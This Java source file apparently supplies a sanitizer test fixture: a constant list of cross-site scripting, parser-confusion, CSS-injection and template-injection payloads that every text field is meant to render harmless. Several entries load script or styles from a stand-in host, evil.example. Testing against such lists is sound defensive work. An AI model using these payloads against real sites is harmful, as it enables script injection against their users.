package io.zhuangan.showcase;

import java.util.List;

/**
 * Texts that try to become script, style, another document or a template, by kind of attack. Collected from what is
 * publicly taught about each kind; every field that takes text must draw each of them as harmless.
 */
public final class Payloads {
    /** A word that each payload carries in a place where only running it would show. */
    public static final List<String> ALL = List.of(
            // script elements, whole and broken
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<script/src=data:,alert(1)></script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script>alert(1)//",
            "<<script>alert(1);//<</script>",
            "<script\u0000>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<script type=module>import('//evil.example')</script>",
            // handlers
            "<img src=x onerror=alert(1)>",
            "<img/src=x/onerror=alert(1)>",
            "<img src=\"x\" OnErRoR=\"alert(1)\">",
            "<p onclick=alert(1)>x</p>",
            "<a href=https://example.org onmouseover=alert(1)>x</a>",
            "<body onload=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<select autofocus onfocus=alert(1)></select>",
            "<p style=\"x\" onpointerenter=alert(1)>x</p>",
            "<strong onanimationstart=alert(1)>x</strong>",
            // addresses that run
            "<a href=javascript:alert(1)>x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href=\"java&#10;script:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\"&#x6A;&#x61;vascript:alert(1)\">x</a>",
            "<a href=\" \u0001javascript:alert(1)\">x</a>",
            "<a href=data:text/html,<script>alert(1)</script>>x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<a href=vbscript:msgbox(1)>x</a>",
            "<a href=\"//evil.example\" ping=\"javascript:alert(1)\">x</a>",
            "<form action=javascript:alert(1)><button>x</button></form>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=javascript:alert(1)></object>",
            "<embed src=javascript:alert(1)>",
            "<base href=javascript:alert(1)//>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<link rel=stylesheet href=javascript:alert(1)>",
            // other languages inside
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x></svg>",
            "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x\"></svg>",
            "<math><mtext><script>alert(1)</script></mtext></math>",
            "<math href=javascript:alert(1)>x</math>",
            "<xml><script>alert(1)</script></xml>",
            "<?xml version=\"1.0\"?><html><script>alert(1)</script></html>",
            "<![CDATA[<script>alert(1)</script>]]>",
            // text that another parser reads differently
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
            "<noscript><style></noscript><img src=x onerror=alert(1)>",
            "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
            "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
            "<title><img src=\"</title><img src=x onerror=alert(1)>\">",
            "<!--><img src=x onerror=alert(1)>-->",
            "<!-- --!><img src=x onerror=alert(1)> -->",
            "<p title='`'><img src=x onerror=alert(1)>'></p>",
            "<template><script>alert(1)</script></template>",
            // style
            "<style>*{background:url(javascript:alert(1))}</style>",
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<p style=\"width:expression(alert(1))\">x</p>",
            "<p style=\"position:fixed;inset:0;background:#fff\">x</p>",
            "<style>@import '//evil.example/x.css';</style>",
            "<p style=\"-moz-binding:url(//evil.example/x.xml#x)\">x</p>",
            // templates of servers and of scripts
            "#{7*7}",
            "${7*7}",
            "{{7*7}}",
            "#{request.getClass()}",
            "<p>#{7*7}</p>",
            "${{7*7}}",
            "<%= 7*7 %>",
            "*{7*7}");

    private Payloads() {}
}
